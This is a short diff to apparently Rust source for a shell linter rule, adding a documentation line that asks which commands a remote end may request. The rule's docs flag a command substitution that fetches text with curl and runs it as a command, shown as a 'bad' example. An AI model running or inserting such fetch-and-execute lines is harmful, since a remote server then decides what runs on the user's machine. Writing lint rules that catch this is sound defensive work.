@@ -10,6 +10,8 @@ rule! {
     ///
     /// The words of a substitution become the command itself, so the other end decides what runs and with which arguments.
     ///
+    /// To decide: Which few commands may the other end ask for, and can a `case` name them?
+    ///
     /// ```sh bad
     /// $(curl -s https://example.org/next-step)
     /// ```
